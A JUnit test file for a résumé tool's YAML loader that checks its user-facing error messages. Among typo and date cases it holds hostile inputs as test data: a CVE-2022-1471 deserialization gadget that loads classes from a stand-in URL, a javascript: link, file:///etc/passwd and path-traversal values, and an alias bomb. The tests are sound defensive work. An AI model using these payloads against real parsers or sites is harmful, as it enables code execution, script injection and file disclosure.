package dev.vitae.load;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vitae.pipeline.Vitae;
import dev.vitae.source.DiagnosticFormatter;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The exact messages a user sees for bad input: position, source line, caret, hint. */
class LoaderErrorsTest {

  static String report(String yaml) {
    return report(yaml.getBytes(StandardCharsets.UTF_8));
  }

  static String report(byte[] bytes) {
    LoadResult r = Vitae.read("resume.yaml", bytes);
    assertThat(r).isInstanceOf(LoadResult.Failed.class);
    return DiagnosticFormatter.format(r.source(), r.diagnostics());
  }

  static Stream<Arguments> cases() {
    return Stream.of(
        Arguments.of(
            "unknown key with a suggestion",
            """
            basics:
              name: Ada
            work:
              - name: Acme
                postion: Engineer
            """,
            """
            resume.yaml:5:5: error: unknown key 'postion' in work[0]
                    postion: Engineer
                    ^
              hint: did you mean 'position'?
            1 error
            """),
        Arguments.of(
            "wrong type: text where a list belongs",
            """
            basics:
              name: Ada
            work:
              - name: Acme
                highlights: Built things
            """,
            """
            resume.yaml:5:17: error: 'highlights' must be a list, not text
                    highlights: Built things
                                ^
              hint: start each item on its own line with '- '
            1 error
            """),
        Arguments.of(
            "missing required name",
            """
            basics:
              label: Engineer
            """,
            """
            resume.yaml:2:3: error: basics is missing 'name'
                  label: Engineer
                  ^
              hint: add 'name: …' to it
            1 error
            """),
        Arguments.of(
            "duplicate key",
            """
            basics:
              name: Ada
              email: a@example.com
              email: b@example.com
            """,
            """
            resume.yaml:4:3: error: duplicate key 'email' (first written on line 3)
                  email: b@example.com
                  ^
              hint: delete one of the two, or merge them
            1 error
            """),
        Arguments.of(
            "bad date",
            """
            basics:
              name: Ada
            work:
              - name: Acme
                startDate: 2021-13
            """,
            """
            resume.yaml:5:16: error: 'startDate' is not a date: '2021-13'
                    startDate: 2021-13
                               ^
              hint: write YYYY, YYYY-MM or YYYY-MM-DD, e.g. '2021-03'
            1 error
            """),
        Arguments.of(
            "end before start",
            """
            basics:
              name: Ada
            work:
              - name: Acme
                startDate: '2021-03'
                endDate: '2020-01'
            """,
            """
            resume.yaml:6:14: error: endDate 2020-01 is before startDate 2021-03
                    endDate: '2020-01'
                             ^
              hint: swap the two dates, or write 'present' if it has not ended
            1 error
            """),
        Arguments.of(
            "tab in indentation",
            "basics:\n\tname: Ada\n",
            """
            resume.yaml:2:1: error: tab character in indentation
                 name: Ada
                ^
              hint: YAML indents with spaces only; replace the tab with spaces
            1 error
            """),
        Arguments.of(
            "empty file",
            "\n\n",
            """
            resume.yaml:1:1: error: the file is empty
              hint: start with 'basics:' and the person's name; 'vitae init' writes a starter file
            1 error
            """),
        Arguments.of(
            "top level is a list",
            "- basics\n- work\n",
            """
            resume.yaml:1:1: error: the top level must be a mapping of sections (basics:, work:, …)
                - basics
                ^
              hint: start the file with 'basics:' at the first column
            1 error
            """),
        Arguments.of(
            "global tag (CVE-2022-1471 gadget)",
            """
            basics:
              name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
            """,
            """
            resume.yaml:2:9: error: the tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed
                  name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                        ^
              hint: vitae reads plain data only; delete the tag (the word starting with '!')
            1 error
            """),
        Arguments.of(
            "unsafe link scheme",
            """
            basics:
              name: Ada
              url: javascript:alert(1)
            """,
            """
            resume.yaml:3:8: error: the link scheme 'javascript:' is not allowed
                  url: javascript:alert(1)
                       ^
              hint: write a full web address starting with https://
            1 error
            """),
        Arguments.of(
            "control character",
            "basics:\n  name: Ada\u0007\n",
            """
            resume.yaml:2:12: error: control character U+0007 is not allowed
                  name: Ada\s
                           ^
              hint: delete it: it is invisible in most editors and unreadable to applicant-tracking systems
            1 error
            """),
        Arguments.of(
            "YAML syntax: unclosed quote",
            """
            basics:
              name: "Ada
            """,
            """
            resume.yaml:2:9: error: YAML syntax: this quote is never closed on its line
                  name: "Ada
                        ^
              hint: close it on this line: a quoted value runs on to the next quote, swallowing the lines between
            1 error
            """),
        Arguments.of(
            "every error at once, in source order",
            """
            basics:
              nme: Ada
              email: not-an-email
            work:
              - name: Acme
                startDate: someday
            skills: Java
            """,
            """
            resume.yaml:2:3: error: unknown key 'nme' in basics
                  nme: Ada
                  ^
              hint: did you mean 'name'?
            resume.yaml:2:3: error: basics is missing 'name'
                  nme: Ada
                  ^
              hint: add 'name: …' to it
            resume.yaml:6:16: error: 'startDate' is not a date: 'someday'
                    startDate: someday
                               ^
              hint: write YYYY, YYYY-MM or YYYY-MM-DD, e.g. '2021-03'
            resume.yaml:7:9: error: 'skills' must be a list, not text
                skills: Java
                        ^
              hint: start each item on its own line with '- '
            4 errors
            """),
        Arguments.of(
            "text with a colon where text is asked for reads as a mapping (a letter's paragraph"
                + " too, found applying from outside)",
            """
            basics:
              name: Ada
            work:
              - name: Acme
                stack:
                  - "Go"
                  - Java: 21 and Spring
            """,
            """
            resume.yaml:7:9: error: 'Java: 21 and Spring' reads as a key and a value, because of its ': '
                      - Java: 21 and Spring
                        ^
              hint: put the whole text in quotes: "Java: 21 and Spring"
            1 error
            """),
        Arguments.of(
            "a name of marks alone, which no parser reads as a name (found by fuzzing)",
            """
            basics:
              name: "·"
            """,
            """
            resume.yaml:2:9: error: 'name' has no letter in it
                  name: "·"
                        ^
              hint: write the person's name as it should head the résumé: a résumé parser reads nothing in a name of marks alone
            1 error
            """),
        Arguments.of(
            "a variant's fit mode",
            """
            basics:
              name: Ada
            variants:
              backend:
                fit: loose
            """,
            """
            resume.yaml:5:10: error: unknown value 'loose' for fit
                    fit: loose
                         ^
              hint: it can be 'drop' or 'strict'
            1 error
            """),
        Arguments.of(
            "closed choices are written as the documentation writes them: STRICT is not strict",
            """
            basics:
              name: Ada
            variants:
              backend:
                fit: STRICT
                sections: [summary, Work, skils]
                documents: [resume, pdf]
                theme: Fancy Look
            """,
            """
            resume.yaml:5:10: error: unknown value 'STRICT' for fit
                    fit: STRICT
                         ^
              hint: did you mean 'strict'?
            resume.yaml:6:25: error: unknown value 'Work' for sections
                    sections: [summary, Work, skils]
                                        ^
              hint: did you mean 'work'?
            resume.yaml:6:31: error: unknown value 'skils' for sections
                    sections: [summary, Work, skils]
                                              ^
              hint: did you mean 'skills'?
            resume.yaml:7:25: error: unknown value 'pdf' for documents
                    documents: [resume, pdf]
                                        ^
              hint: it can be 'resume', 'dossier', 'text', 'letter', 'docx' or 'html'
            resume.yaml:8:12: error: theme 'Fancy Look' is not a theme name
                    theme: Fancy Look
                           ^
              hint: use modern or classic, or the NAME of your own resume-NAME.ftlx (lower-case letters, digits, '-')
            5 errors
            """),
        Arguments.of(
            "locale and sections: no language tag, a blank word, words and parts that do not exist",
            """
            basics:
              name: Ada
            locale:
              language: english_UK
              words:
                present: " "
                wrok: Erfahrung
                pages: "Seite {seite}"
            sections:
              sytems:
                title: Systeme
            """,
            """
            resume.yaml:4:13: error: 'english_UK' is not a language tag
                  language: english_UK
                            ^
              hint: write a BCP 47 tag: a language code such as en, de, he or ar, with a region if you like (fr-CA, pt-BR)
            resume.yaml:6:5: error: the word 'present' is blank
                    present: " "
                    ^
              hint: write it in the résumé's language, or leave the key out for the English 'Present'
            resume.yaml:7:5: error: vitae prints no word called 'wrok'
                    wrok: Erfahrung
                    ^
              hint: did you mean 'work'?
            resume.yaml:8:5: error: 'pages' has no place called {seite}
                    pages: "Seite {seite}"
                    ^
              hint: its places are {page} and {pages}, as in 'page {page} of {pages}'
            resume.yaml:10:3: error: the dossier has no part called 'sytems'
                  sytems:
                  ^
              hint: did you mean 'systems'?
            5 errors
            """),
        Arguments.of(
            "a job and a system name their dossier by an id a dossier has",
            """
            basics:
              name: Ada
            dossiers:
              - id: "ondc-shiprocket"
                title: "ONDC"
            work:
              - name: Shiprocket
                dossier: "ondc-shiprockt"
            systems:
              - name: API
                dossier: "elsewhere"
            """,
            """
            resume.yaml:8:14: error: no dossier has the id 'ondc-shiprockt'
                    dossier: "ondc-shiprockt"
                             ^
              hint: did you mean 'ondc-shiprocket'?
            resume.yaml:11:14: error: no dossier has the id 'elsewhere'
                    dossier: "elsewhere"
                             ^
              hint: dossier ids: ondc-shiprocket
            2 errors
            """),
        Arguments.of(
            "a dossier's number in two digits is a place of its own; a third is not",
            """
            basics:
              name: Ada
            locale:
              words:
                case: "system dossier / {nn}"
                figure: "Figure {nnn}"
            """,
            """
            resume.yaml:6:5: error: 'figure' has no place called {nnn}
                    figure: "Figure {nnn}"
                    ^
              hint: its places are {n} and {nn}, as in 'Figure {n}'
            1 error
            """),
        Arguments.of(
            "a direction that is neither ltr nor rtl",
            """
            basics:
              name: Ada
            locale:
              direction: right
            """,
            """
            resume.yaml:4:14: error: unknown value 'right' for direction
                  direction: right
                             ^
              hint: it can be 'ltr' or 'rtl'
            1 error
            """),
        Arguments.of(
            "locale: a word whose places do not pair, and one with a formatted place",
            """
            basics:
              name: Ada
            locale:
              words:
                case: "Dossier {n von {count}"
                figure: "Abbildung {n, number}"
                summary: "Kurz {"
            """,
            """
            resume.yaml:5:5: error: 'case' is not text with places: its braces do not pair up around place names
                    case: "Dossier {n von {count}"
                    ^
              hint: its places are {n}, {count} and {nn}, as in 'Dossier {n} of {count}'
            resume.yaml:6:5: error: 'figure' is not text with places: '{n, number}' is not a place; a place is a name in braces
                    figure: "Abbildung {n, number}"
                    ^
              hint: its places are {n} and {nn}, as in 'Figure {n}'
            2 errors
            """),
        Arguments.of(
            "alias bomb",
            """
            a: &a ["x","x","x","x","x","x","x","x","x"]
            b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
            c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
            d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
            """,
            """
            resume.yaml:1:1: error: too many aliases (more than 20): the file looks like an alias bomb
                a: &a ["x","x","x","x","x","x","x","x","x"]
                ^
              hint: write the values out instead of repeating them through '*' aliases
            1 error
            """),
        Arguments.of(
            "file: link scheme",
            """
            basics:
              name: Ada
              url: file:///etc/passwd
            """,
            """
            resume.yaml:3:8: error: the link scheme 'file:' is not allowed
                  url: file:///etc/passwd
                       ^
              hint: write a full web address starting with https://
            1 error
            """),
        Arguments.of(
            "control character written as an escape (found by the fuzz test)",
            """
            basics:
              name: "Ada\\0"
              label: "\\uD800 lone surrogate"
            """,
            """
            resume.yaml:2:9: error: 'name' holds the unprintable character U+0000
                  name: "Ada\\0"
                        ^
              hint: delete the escape that writes it (such as \\0, \\x07 or \\uFFFF): applicant-tracking systems cannot read it, and XHTML cannot hold it
            resume.yaml:3:10: error: 'label' holds the unprintable character U+D800
                  label: "\\uD800 lone surrogate"
                         ^
              hint: delete the escape that writes it (such as \\0, \\x07 or \\uFFFF): applicant-tracking systems cannot read it, and XHTML cannot hold it
            2 errors
            """),
        Arguments.of(
            "escape beyond Unicode (found by the fuzz test)",
            """
            basics:
              name: "Ada \\U9001F1F7"
            """,
            """
            resume.yaml:2:14: error: YAML syntax: the escape '\\U9001F1F7' is beyond the last Unicode character
                  name: "Ada \\U9001F1F7"
                             ^
              hint: \\U takes eight hex digits up to 0010FFFF, e.g. \\U0001F680 for 🚀
            1 error
            """),
        Arguments.of(
            "deep nesting",
            "basics:\n  name: Ada\nwork: " + "[".repeat(60) + "]".repeat(60) + "\n",
            """
            resume.yaml:3:46: error: the file is nested more than 40 levels deep
                %s
                                                             ^
              hint: a resume.yaml needs at most five levels; look for runaway '[' or '-'
            1 error
            """
                .formatted(("work: " + "[".repeat(60) + "]".repeat(60)).substring(0, 120) + "…")),
        Arguments.of(
            "image: absolute path",
            """
            basics:
              name: Ada
              image: /etc/passwd
            """,
            """
            resume.yaml:3:10: error: 'image' must stay inside the folder of resume.yaml: '/etc/passwd' is an absolute path
                  image: /etc/passwd
                         ^
              hint: write a path relative to resume.yaml (e.g. photo.jpg), or an https:// address
            1 error
            """),
        Arguments.of(
            "image: leads out of the folder",
            """
            basics:
              name: Ada
              image: photos/../../secret.png
            """,
            """
            resume.yaml:3:10: error: 'image' must stay inside the folder of resume.yaml: 'photos/../../secret.png' leads out of it
                  image: photos/../../secret.png
                         ^
              hint: write a path relative to resume.yaml (e.g. photo.jpg), or an https:// address
            1 error
            """),
        Arguments.of(
            "image: Windows absolute path",
            """
            basics:
              name: Ada
              image: 'C:\\Users\\ada\\photo.jpg'
            """,
            """
            resume.yaml:3:10: error: 'image' must stay inside the folder of resume.yaml: 'C:\\Users\\ada\\photo.jpg' is an absolute path
                  image: 'C:\\Users\\ada\\photo.jpg'
                         ^
              hint: write a path relative to resume.yaml (e.g. photo.jpg), or an https:// address
            1 error
            """),
        Arguments.of(
            "image: file: scheme",
            """
            basics:
              name: Ada
              image: file:///home/ada/photo.jpg
            """,
            """
            resume.yaml:3:10: error: 'image' must be an https:// address or a file inside the folder of resume.yaml, not 'file:'
                  image: file:///home/ada/photo.jpg
                         ^
              hint: write a path relative to resume.yaml (e.g. photo.jpg), or an https:// address
            1 error
            """),
        Arguments.of(
            "image: http is not https",
            """
            basics:
              name: Ada
              image: http://example.com/photo.jpg
            """,
            """
            resume.yaml:3:10: error: 'image' must be an https:// address or a file inside the folder of resume.yaml, not 'http:'
                  image: http://example.com/photo.jpg
                         ^
              hint: write a path relative to resume.yaml (e.g. photo.jpg), or an https:// address
            1 error
            """));
  }

  @Test
  void imagesInsideTheFolderOrOnHttpsAreAccepted() {
    for (String image :
        new String[] {
          "photo.jpg", "img/./me.png", "a/../photo.jpg", "https://example.com/me.png"
        }) {
      LoadResult r =
          Vitae.read(
              "resume.yaml",
              ("basics:\n  name: Ada\n  image: '" + image + "'\n")
                  .getBytes(StandardCharsets.UTF_8));
      assertThat(r).as(image).isInstanceOf(LoadResult.Loaded.class);
    }
  }

  @Test
  void aNameLongerThanAnyNameIsRefusedWithTheLikelyCause() {
    // An open quote can swallow the lines after it (found by fuzzing: the dossier's running header
    // then grew over the page's text).
    String name = "Ada Lovelace  label: Engineer  summary: ".repeat(6);
    String shown = ("  name: '" + name + "'").substring(0, 120) + "…";
    assertThat(report("basics:\n  name: '" + name + "'\n"))
        .isEqualTo(
            """
        resume.yaml:2:9: error: 'name' is 240 characters long; a name has at most 200
            %s
                    ^
          hint: a name this long is usually a quote opened here and closed lines later: close it on this line
        1 error
        """
                .formatted(shown));
    assertThat(
            Vitae.read(
                "resume.yaml",
                ("basics:\n  name: " + "W".repeat(200) + "\n").getBytes(StandardCharsets.UTF_8)))
        .isInstanceOf(LoadResult.Loaded.class);
  }

  @Test
  void aMultiMegabyteValueIsRefusedWithItsLength() {
    String value = "x".repeat(2_000_000);
    String shown = ("  name: " + value).substring(0, 120) + "…";
    assertThat(report("basics:\n  name: " + value + "\n"))
        .isEqualTo(
            """
        resume.yaml:2:9: error: 'name' is 2,000,000 characters long; the limit is 20,000
            %s
                    ^
          hint: shorten it: a résumé value is a few lines at most
        1 error
        """
                .formatted(shown));
  }

  @Test
  void aFileLargerThanTheLimitIsRefused() {
    String value = "x".repeat(YamlReader.MAX_CODE_POINTS);
    assertThat(report("basics:\n  name: " + value + "\n"))
        .isEqualTo(
            """
        resume.yaml:1:1: error: the file is larger than 3,145,728 characters
            basics:
            ^
          hint: a résumé fits in far less; look for a pasted file or a runaway value
        1 error
        """);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void reportsTheExactMessage(String name, String yaml, String expected) {
    assertThat(report(yaml)).isEqualTo(expected);
  }

  @Test
  void invalidUtf8IsReportedWhereItStands() {
    // UTF-8 (the ø) with one damaged byte, not a file in another encoding
    byte[] utf8 = "basics:\n  label: Ingeniør\n".getBytes(StandardCharsets.UTF_8);
    byte[] latin1 = "  name: Ad\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
    byte[] bytes = java.util.Arrays.copyOf(utf8, utf8.length + latin1.length);
    System.arraycopy(latin1, 0, bytes, utf8.length, latin1.length);
    assertThat(report(bytes))
        .isEqualTo(
            """
        resume.yaml:3:11: error: invalid UTF-8 byte 0xE9
              name: Ad\uFFFD
                      ^
          hint: save the file as UTF-8 (most editors: File > Save with Encoding > UTF-8)
        1 error
        """);
  }

  @Test
  void aHeadingMixingRightToLeftAndLeftToRightLettersIsRefusedAtItsLine() {
    assertThat(
            report(
                """
                basics:
                  name: דנה כהן
                locale:
                  language: he
                  words:
                    education: השLOCKה
                    awards: פרסים 2020
                    present: היום (today)
                """))
        .isEqualTo(
            """
            resume.yaml:6:5: error: the heading 'השLOCKה' mixes right-to-left and left-to-right letters: each direction is drawn as a run of its own, which résumé parsers read as separate pieces, not as a heading
                    education: השLOCKה
                    ^
              hint: write the heading in the letters of one direction only, as the résumé's other headings are
            1 error
            """);
  }

  @Test
  void aValueHoldingItselfThroughAnAliasIsAnErrorAtTheAlias() {
    assertThat(
            report(
                """
                basics:
                  name: Ada
                work: &w
                  - name: Acme
                    highlights: *w
                """))
        .isEqualTo(
            """
            resume.yaml:5:17: error: '*w' stands inside the value it refers to, so that value would hold itself without end
                    highlights: *w
                                ^
              hint: write the value out where '*w' stands, or refer to '&w' only from outside its value
            1 error
            """);
  }
}
